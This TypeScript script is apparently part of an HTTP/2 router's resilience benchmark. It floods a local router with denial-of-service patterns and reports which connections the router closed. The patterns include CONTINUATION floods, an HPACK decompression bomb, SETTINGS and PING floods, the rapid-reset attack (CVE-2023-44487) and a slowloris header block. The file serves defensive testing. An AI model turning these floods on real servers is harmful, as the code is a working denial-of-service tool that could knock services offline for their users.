import * as net from 'node:net';
import {
  F,
  GRPC,
  PREFACE,
  REQUEST,
  T,
  block,
  frame,
  headers,
  indexed,
  indexedLiteral,
  u32,
} from '../../test/helpers/raw-h2';

/**
 * One HTTP/2 flood against a router, in a process of its own (so that the bench's legitimate caller
 * does not share an event loop with the attacker): `connections` connections, each sending its pattern
 * until the router closes it or the byte or time budget runs out. Prints one JSON line: per connection,
 * the bytes it sent and whether the router closed it.
 *
 * usage: flood-attacker.ts FLOOD PORT CONNECTIONS SECONDS
 */

interface Attack {
  /** Bytes written once the connection is open (after the preface and SETTINGS). */
  start(): Buffer;
  /** The next burst, or undefined to stop writing (and stay open, idle or mid-block). */
  next(): Buffer | undefined;
  /** Read what the router sends (false: never read, as flooders of replies do). */
  readonly reads: boolean;
  /** Milliseconds between bursts (0: as fast as the socket takes them). */
  readonly everyMs: number;
}

const request = block(...REQUEST, ...GRPC, 'x-nerve-engine', 'echo');
const repeat = (unit: Buffer, bytes = 32_768) =>
  Buffer.concat(Array.from({ length: Math.ceil(bytes / unit.length) }, () => unit));

function attack(name: string): Attack {
  let id = 1;
  switch (name) {
    case 'continuation-empty':
      return {
        start: () => headers(1, request.subarray(0, 5), 0),
        next: () => repeat(frame(T.CONTINUATION, 0, 1)),
        reads: true,
        everyMs: 0,
      };
    case 'continuation-1-byte':
      return {
        start: () => headers(1, Buffer.from([0x00]), 0),
        next: () => repeat(frame(T.CONTINUATION, 0, 1, Buffer.from([0x01]))),
        reads: true,
        everyMs: 0,
      };
    case 'hpack-bomb': {
      // A 4 kB entry, then 15,000 one-byte references to it: a 60 MB header list in 15 kB, per request.
      const bomb = Buffer.concat([request, indexedLiteral('x-bomb', 'b'.repeat(4_000))]);
      const refs = Buffer.concat(Array.from({ length: 15_000 }, () => indexed(62)));
      return {
        start: () => Buffer.alloc(0),
        next: () => {
          const fields = id === 1 ? Buffer.concat([bomb, refs]) : Buffer.concat([request, refs]);
          const parts = [
            headers(
              id,
              fields.subarray(0, 16_000),
              F.END_STREAM | (fields.length <= 16_000 ? F.END_HEADERS : 0),
            ),
          ];
          for (let at = 16_000; at < fields.length; at += 16_000)
            parts.push(
              frame(
                T.CONTINUATION,
                at + 16_000 >= fields.length ? F.END_HEADERS : 0,
                id,
                fields.subarray(at, at + 16_000),
              ),
            );
          id += 2;
          return Buffer.concat(parts);
        },
        reads: true,
        everyMs: 0,
      };
    }
    case 'settings':
      return {
        start: () => Buffer.alloc(0),
        next: () => repeat(frame(T.SETTINGS, 0, 0)),
        reads: false,
        everyMs: 0,
      };
    case 'ping':
      return {
        start: () => Buffer.alloc(0),
        next: () => repeat(frame(T.PING, 0, 0, Buffer.alloc(8))),
        reads: false,
        everyMs: 0,
      };
    case 'rst':
      // Rapid reset (CVE-2023-44487): open a stream, cancel it, again.
      return {
        start: () => Buffer.alloc(0),
        next: () => {
          const parts: Buffer[] = [];
          for (let i = 0; i < 200; i++, id += 2)
            parts.push(headers(id, request), frame(T.RST_STREAM, 0, id, u32(8)));
          return Buffer.concat(parts);
        },
        reads: true,
        everyMs: 0,
      };
    case 'empty-data':
      return {
        start: () => headers(1, request),
        next: () => repeat(frame(T.DATA, 0, 1)),
        reads: true,
        everyMs: 0,
      };
    case 'idle':
      return { start: () => Buffer.alloc(0), next: () => undefined, reads: true, everyMs: 0 };
    case 'slowloris':
      // A header block that never ends: one byte of CONTINUATION every half second.
      return {
        start: () => headers(1, Buffer.from([0x00]), 0),
        next: () => frame(T.CONTINUATION, 0, 1, Buffer.from([0x01])),
        reads: true,
        everyMs: 500,
      };
    default:
      throw new Error(`unknown flood ${name}`);
  }
}

async function one(
  name: string,
  port: number,
  deadline: number,
): Promise<{ bytes: number; closed: boolean }> {
  const a = attack(name);
  const socket = net.connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  // Closed for the attacker once the router ends its side (FIN after its GOAWAY) or resets.
  let closed = false;
  socket.on('end', () => (closed = true));
  socket.on('close', () => (closed = true));
  await new Promise<void>((resolve) => {
    socket.once('connect', resolve);
    socket.once('close', resolve);
  });
  if (a.reads) socket.on('data', () => undefined);
  else socket.pause();
  let bytes = 0;
  const write = (b: Buffer) => {
    bytes += b.length;
    return socket.write(b);
  };
  write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0), a.start()]));
  while (!closed && Date.now() < deadline && bytes < 512 << 20) {
    const burst = a.next();
    if (burst === undefined) {
      await new Promise((r) => setTimeout(r, 50));
      continue;
    }
    const taken = write(burst);
    // Always yield: a kernel that takes every write at once would otherwise starve this process's own
    // events (the router's FIN, the other connections' connects).
    if (a.everyMs > 0) await new Promise((r) => setTimeout(r, a.everyMs));
    else if (!taken && socket.writableLength > 4 << 20) await new Promise((r) => setTimeout(r, 5));
    else await new Promise((r) => setImmediate(r));
  }
  const wasClosed = closed;
  socket.destroy();
  return { bytes: bytes - socket.writableLength, closed: wasClosed };
}

async function main(): Promise<void> {
  const [name, port, connections, seconds] = process.argv.slice(2);
  const deadline = Date.now() + Number(seconds) * 1000;
  // Connects staggered by hundreds: a thousand at once would test the kernel's accept queue, not the router.
  const results = await Promise.all(
    Array.from({ length: Number(connections) }, (_, i) =>
      new Promise((r) => setTimeout(r, Math.floor(i / 100) * 20)).then(() =>
        one(name, Number(port), deadline),
      ),
    ),
  );
  console.log(JSON.stringify(results));
}

void main();
